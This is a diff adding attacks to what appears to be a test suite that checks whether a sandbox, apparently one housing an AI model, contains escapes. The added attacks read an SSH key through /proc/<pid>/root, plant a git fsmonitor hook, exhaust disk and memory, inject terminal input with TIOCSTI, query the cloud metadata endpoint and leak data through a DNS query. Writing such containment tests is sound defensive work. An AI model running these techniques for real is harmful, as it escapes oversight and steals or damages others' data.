@@ -5,14 +5,20 @@ attack and the places around the sandbox that it is after. What an attack gets h
 server looks from outside at what it changed and reached.
 """
 
+import base64
 import ctypes
 import ctypes.util
+import fcntl
 import json
+import mmap
 import os
 import socket
 import subprocess
 import sys
+import tempfile
+import termios
 import time
+import urllib.parse
 
 ATTACKS = {}
 libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
@@ -66,6 +72,18 @@ def read_through_link(at):
 
 
 @attack
+def read_through_hard_link(at):
+    link = at["work"] + "/hard-link"
+    os.link(at["neighbour"] + "/notes.txt", link)
+    return read(link)
+
+
+@attack
+def read_through_process_root(at):
+    return read(f"/proc/{at['victim']}/root" + at["home"] + "/.ssh/id_ed25519")
+
+
+@attack
 def write_other_project(at):
     return write(at["neighbour"] + "/notes.txt")
 
@@ -81,6 +99,11 @@ def write_git_hook(at):
     write(hook, "#!/bin/sh\n")
     os.chmod(hook, 0o755)
     return "written"
+
+
+@attack
+def write_git_config(at):
+    return write(at["work"] + "/.git/config", "[core]\n\tfsmonitor = ./attack\n")
 
 
 @attack
@@ -107,7 +130,37 @@ def set_user_id(at):
     return "made"
 
 
+@attack
+def fill_temporary_directory(at):
+    return fill(tempfile.mkdtemp(), 2 * 2**30)
+
+
+@attack
+def fill_own_directory(at):
+    return fill(at["work"], 2 * 2**30)
+
+
+def fill(folder, size):
+    """Reserves space without writing it."""
+    step = 256 * 2**20
+    names = [f"{folder}/attack-{n}" for n in range(size // step)]
+    try:
+        for name in names:
+            with open(name, "wb") as file:
+                os.posix_fallocate(file.fileno(), 0, step)
+        return f"GOT {size} bytes"
+    finally:
+        for name in names:
+            if os.path.exists(name):
+                os.unlink(name)
+
+
 # Processes
+
+
+@attack
+def see_processes(at):
+    return read(f"/proc/{at['victim']}/cmdline")
 
 
 @attack
@@ -140,7 +193,12 @@ def trace_process(at):
 @attack
 def kill_process(at):
     os.kill(at["victim"], 9)
-    return "sent"
+    # Its parent has not waited for it: a killed process becomes a zombie.
+    state = ""
+    while state != "Z":
+        with open(f"/proc/{at['victim']}/stat") as file:
+            state = file.read().rpartition(")")[2].split()[0]
+    return "ended"
 
 
 @attack
@@ -172,7 +230,45 @@ def start_many_processes(at):
             os.waitpid(pid, 0)
 
 
+@attack
+def take_memory(at):
+    held = mmap.mmap(-1, 5 * 2**30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
+    for page in range(0, len(held), mmap.PAGESIZE):
+        held[page] = 1
+    return "GOT 5 GiB"
+
+
 # Kernel
+
+
+@attack
+def kernel_log(at):
+    READ_ALL = 3
+    buffer = ctypes.create_string_buffer(4096)
+    n_read = libc.klogctl(READ_ALL, buffer, len(buffer))
+    if n_read <= 0:
+        raise OSError(ctypes.get_errno(), "klogctl")
+    return f"GOT {n_read} bytes"
+
+
+@attack
+def terminal_input(at):
+    controller, terminal = os.openpty()
+    pid = os.fork()
+    if pid == 0:
+        try:
+            os.setsid()
+            fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
+            fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
+            os._exit(0)
+        except OSError:
+            os._exit(1)
+    status = os.waitpid(pid, 0)[1]
+    os.close(controller)
+    os.close(terminal)
+    if status != 0:
+        raise OSError("TIOCSTI")
+    return "GOT a character typed"
 
 
 @attack
@@ -251,6 +347,46 @@ def connect_to_abstract_socket(at):
 
 
 @attack
+def connect_to_metadata(at):
+    # Through the way out to hosts, where the server has one.
+    with connected("169.254.169.254", at["metadata"]) as stream:
+        stream.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")
+    return "sent"
+
+
+@attack
+def connect_to_other_host(at):
+    with connected("localhost", at["tcp"]) as stream:
+        stream.sendall(b"x")
+    return "sent"
+
+
+def connected(host, port):
+    """A connection to a host by its name: through the proxy of the environment, where there is one."""
+    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy")
+    if not proxy:
+        return socket.create_connection((host, port), 5)
+    proxy = urllib.parse.urlsplit(proxy)
+    stream = socket.create_connection((proxy.hostname, proxy.port), 5)
+    login = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
+    stream.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nhost: {host}:{port}\r\nproxy-authorization: Basic {login}\r\n\r\n".encode())
+    answer = stream.recv(1000)
+    if b" 200 " not in answer:
+        raise OSError(answer)
+    return stream
+
+
+@attack
+def send_by_name_lookup(at):
+    # A name server of an attacker reads what it is asked for.
+    name = b"".join(bytes([len(part)]) + part for part in [b"secret", b"example", b"com"])
+    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x00\x01\x00\x01"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
+        stream.sendto(query, ("127.0.0.1", at["names"]))
+    return "sent"
+
+
+@attack
 def raw_socket(at):
     socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
     return "GOT a raw socket"
@@ -285,6 +421,11 @@ def ask_the_model(at):
         }
     )
     return "asked"
+
+
+@attack
+def control_the_terminal(at):
+    return "\x1b]0;" + at["marker"] + "\x07\x1b[2J"
 
 
 @attack
